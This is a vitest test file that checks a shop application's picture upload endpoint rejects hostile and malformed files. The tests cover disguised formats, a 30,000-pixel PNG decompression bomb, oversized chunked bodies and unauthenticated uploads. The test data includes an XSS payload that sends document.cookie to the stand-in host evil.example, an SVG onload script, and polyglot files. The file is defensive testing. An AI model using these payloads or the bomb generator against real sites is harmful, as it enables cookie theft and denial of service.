import { request as openRequest } from 'node:http'
import { crc32, deflateSync } from 'node:zlib'
import { files } from '@tabard/contract/files/calls'
import { pictureAddress } from '@tabard/domain/pictures/picture'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createMerchant, createStaff } from '../../../../test/shops/factories.ts'
import { addressOf } from '../../../../test/open-stream.ts'
import { ownerRows } from '../../../../test/database/owner-rows.ts'
import { samplePhoto } from '../../../../test/samples/sample-photo.ts'
import { startTestServer, type TestServer } from '../../../../test/test-server.ts'
import { upload } from '../../../../test/upload.ts'

let testShop: TestServer
let cookie: string
let merchantId: string
let photo: Buffer

beforeAll(async () => {
  testShop = await startTestServer()
  merchantId = (await createMerchant(testShop.server, ['lantern'])).merchantId
  cookie = (await createStaff(testShop.server, merchantId, 'owner')).cookie
  photo = await samplePhoto(1_600, 1_200)
})
afterAll(() => testShop.stop())

const send = (bytes: Uint8Array, more: { name?: string; type?: string; field?: string } = {}) =>
  upload(testShop, { shop: 'lantern', cookie, bytes, ...more })
const get = (url: string, headers: Record<string, string> = {}) => testShop.app.inject({ url, headers })
const countFiles = async () =>
  (await ownerRows<{ files: number }>('select count(*)::integer as files from files'))[0]?.files

async function taken(bytes: Uint8Array) {
  const { picture, message } = await send(bytes)
  if (!picture) throw new Error(message)
  return picture
}

/** A valid PNG of 30,000 by 30,000 black pixels: 110 MB in a hundred kilobytes. */
function bomb(side: number): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), content])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(content.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side)
  head.writeUInt32BE(side, 4)
  head[8] = 1
  const lines = Buffer.alloc(side * (1 + Math.ceil(side / 8)))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(lines, { level: 1 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const svg = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)">${script}</svg>`

describe('an unusable file is refused with advice, and nothing of it is stored', () => {
  test.each([
    ['a PDF named .jpg', 'picture.pdf', 415, () => Buffer.from(`%PDF-1.7\n${'x'.repeat(5_000)}`)],
    ['an SVG with a script', 'picture.svg', 415, () => Buffer.from(svg)],
    ['an SVG that begins like a GIF', 'picture.damaged', 422, () => Buffer.from(`GIF89a${svg}`)],
    [
      'an SVG that begins like a JPEG',
      'picture.damaged',
      422,
      () => Buffer.concat([photo.subarray(0, 4), Buffer.from(svg)]),
    ],
    ['a HEIC', 'picture.heic', 415, () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08mdat')],
    [
      'a HEIC that calls itself AVIF',
      'picture.damaged',
      422,
      () => Buffer.from('\0\0\0\x1cftypheic\0\0\0\0mif1heicavif\0\0\0\x08mdat'),
    ],
    ['a page', 'picture.kind', 415, () => Buffer.from(`<!doctype html>${script}`)],
    ['an archive', 'picture.kind', 415, () => Buffer.from('PK\x03\x04')],
    [
      'a TIFF',
      'picture.kind',
      415,
      () =>
        sharp({ create: { width: 200, height: 200, channels: 3, background: '#fff' } })
          .tiff()
          .toBuffer(),
    ],
    ['half a JPEG', 'picture.damaged', 422, () => photo.subarray(0, photo.length >> 1)],
    ['the first bytes of a JPEG', 'picture.damaged', 422, () => photo.subarray(0, 20)],
    [
      'a PNG with its end missing',
      'picture.damaged',
      422,
      async () => (await samplePhoto(600, 600, { format: 'png' })).subarray(0, 50_000),
    ],
    ['a PNG of 30,000 by 30,000', 'picture.tooManyPixels', 422, () => bomb(30_000)],
    ['a point', 'picture.tooSmall', 422, () => samplePhoto(99, 600)],
    ['nothing', 'picture.missing', 400, () => Buffer.alloc(0)],
  ])('%s: %s', async (_, code, status, make) => {
    const before = await countFiles()
    const answer = await send(await make())
    expect(answer).toMatchObject({ code, status, picture: undefined })
    expect(answer.message.length).toBeGreaterThan(20)
    expect(await countFiles()).toBe(before)
  })

  test('a picture with another file appended keeps the picture only', async () => {
    const both = Buffer.concat([photo, Buffer.from(`PK\x03\x04${script}`)])
    const { key } = await taken(both)
    for (const width of [160, 480, 960] as const)
      expect((await get(pictureAddress(key, width))).rawPayload.includes('script')).toBe(false)
  })

  test('a part other than the file counts as no file', async () => {
    expect(await send(photo, { field: 'attachment' })).toMatchObject({ code: 'picture.missing', status: 400 })
  })

  test('a body that is not valid multipart counts as no file', async () => {
    for (const type of [
      'image/jpeg',
      'application/json',
      'multipart/form-data',
      'multipart/form-data; boundary=x',
    ]) {
      const answer = await testShop.app.inject({
        method: 'POST',
        url: `${files.uploadPicture.path}?id=lantern`,
        headers: { cookie: `tabard_staff=${cookie}`, 'x-requested-with': 'tabard', 'content-type': type },
        payload: '{}',
      })
      expect([answer.statusCode, answer.json<{ error: { code: string } }>().error.code]).toEqual([
        400,
        'picture.missing',
      ])
    }
  })
})

/** Send part of a body, then wait: whether the answer needs the rest. */
async function sendSlowly(
  headers: Record<string, string>,
  megabytes: number,
  session = cookie,
): Promise<{ status: number | undefined; code: string | undefined }> {
  const { hostname, port } = new URL(await addressOf(testShop))
  return new Promise((resolve, reject) => {
    const sending = openRequest(
      {
        hostname,
        port,
        method: 'POST',
        path: `${files.uploadPicture.path}?id=lantern`,
        headers: {
          cookie: `tabard_staff=${session}`,
          'x-requested-with': 'tabard',
          'content-type': 'multipart/form-data; boundary=edge',
          ...headers,
        },
      },
      (response) => {
        let text = ''
        response.on('data', (chunk: Buffer) => (text += chunk.toString()))
        response.on('end', () => {
          resolve({
            status: response.statusCode,
            code: (JSON.parse(text) as { error?: { code: string } }).error?.code,
          })
          sending.destroy()
        })
      },
    )
    sending.on('error', reject)
    sending.write('--edge\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n')
    for (let sent = 0; sent < megabytes; sent += 1) sending.write(Buffer.alloc(1_048_576, 0xff))
  })
}

describe('an upload of 60 MB', () => {
  test('with a declared length is refused before it is sent', async () => {
    expect(await sendSlowly({ 'content-length': String(60 * 1_048_576) }, 0)).toEqual({
      status: 413,
      code: 'picture.tooLarge',
    })
  })

  test('without a declared length is refused once it exceeds the limit', async () => {
    expect(await sendSlowly({ 'transfer-encoding': 'chunked' }, 21)).toEqual({
      status: 413,
      code: 'picture.tooLarge',
    })
  })

  test('by an unknown caller is refused unread', async () => {
    expect(await sendSlowly({ 'transfer-encoding': 'chunked' }, 0, 'x'.repeat(43))).toEqual({
      status: 401,
      code: 'token.missing',
    })
  })
})
